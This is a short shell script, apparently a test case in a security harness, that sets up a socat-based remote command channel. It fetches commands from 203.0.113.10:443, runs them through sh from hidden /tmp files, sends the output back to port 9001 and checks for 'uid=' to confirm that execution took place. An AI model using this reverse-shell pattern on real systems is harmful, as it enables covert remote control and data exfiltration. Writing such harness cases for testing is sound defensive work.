#!/bin/sh
. /opt/case/case.sh

touch /tmp/.in /tmp/.out
setsid socat -u TCP4:203.0.113.10:443 OPEN:/tmp/.in,append &
setsid sh -c 'tail -n +1 -s 0.2 -f /tmp/.in | sh >>/tmp/.out 2>&1' &
wait_for /tmp/reached
sleep 1
socat -u OPEN:/tmp/.out TCP4:203.0.113.10:9001
grep -q uid= /tmp/.out
took_place
